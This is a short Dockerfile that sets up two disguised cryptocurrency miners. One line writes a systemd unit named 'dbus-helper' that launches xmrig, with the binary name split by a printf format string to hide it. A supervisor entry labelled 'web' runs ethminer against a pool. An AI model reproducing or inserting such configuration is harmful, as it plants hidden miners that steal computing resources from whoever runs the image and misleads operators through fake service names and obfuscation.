FROM debian:12-slim
RUN printf '[Service]\nExecStart=-/opt/xm%s --config /etc/a\n' rig > /etc/systemd/system/dbus-helper.service
COPY <<END /etc/supervisor/conf.d/web.conf
[program:web]
command=/opt/ethminer -P pool
END
